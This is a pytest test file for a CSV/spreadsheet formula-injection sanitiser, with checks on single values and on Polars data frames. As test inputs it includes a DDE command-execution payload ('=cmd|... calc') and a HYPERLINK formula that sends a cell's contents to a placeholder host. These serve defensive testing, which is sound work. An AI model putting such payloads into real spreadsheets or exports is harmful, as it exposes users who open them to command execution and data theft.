"""Formula-injection neutralising (OWASP CSV Injection rule), per value and per frame."""

import polars as pl
import pytest
from polars.testing import assert_frame_equal

from trappen.privacy.sanitize import FORMULA_PREFIXES, neutralise_formula, neutralise_frame


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ("+45 12345678", "'+45 12345678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=cmd|' /C calc'!A0", "'\t=cmd|' /C calc'!A0"),
    ("\r=1", "'\r=1"),
    ('=HYPERLINK("http://x.invalid?"&A1)', '\'=HYPERLINK("http://x.invalid?"&A1)'),
])
def test_formula_text_prefixed(value, expected):
    assert neutralise_formula(value) == expected


@pytest.mark.parametrize("value", ["plain", "a=b", " =1", "", "'=already", "Ærø", '"=1"'])
def test_safe_text_unchanged(value):
    assert neutralise_formula(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, None, True, b"=1"])
def test_non_text_unchanged(value):
    assert neutralise_formula(value) is value


def test_prefix_list_is_owasp():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_frame_vectorised():
    df = pl.DataFrame({
        "note": ["=1+1", "ok", None, "-x", "\tq"],
        "n": [1, -2, 3, 4, 5],
        "cat": pl.Series(["@a", "b", "c", "d", "+e"], dtype=pl.Categorical),
        "enum": pl.Series(["x", "y", "x", "y", "x"], dtype=pl.Enum(["x", "y"])),
    })
    out = neutralise_frame(df)
    assert out.columns == df.columns
    assert out["note"].to_list() == ["'=1+1", "ok", None, "'-x", "'\tq"]
    assert out["n"].to_list() == [1, -2, 3, 4, 5]
    assert out["cat"].to_list() == ["'@a", "b", "c", "d", "'+e"]
    assert out["enum"].to_list() == ["x", "y", "x", "y", "x"]
    assert out.schema["cat"] == pl.String


def test_frame_agrees_with_scalar_rule():
    values = ["=a", "+b", "-c", "@d", "\te", "\rf", "g", "h=", "", " -i", "'=j"]
    out = neutralise_frame(pl.DataFrame({"v": values}))
    assert out["v"].to_list() == [neutralise_formula(v) for v in values]


def test_frame_without_text_and_empty():
    df = pl.DataFrame({"a": [1, 2], "b": [-1.5, 2.0]})
    assert_frame_equal(neutralise_frame(df), df)
    empty = pl.DataFrame({"s": []}, schema={"s": pl.String})
    assert_frame_equal(neutralise_frame(empty), empty)
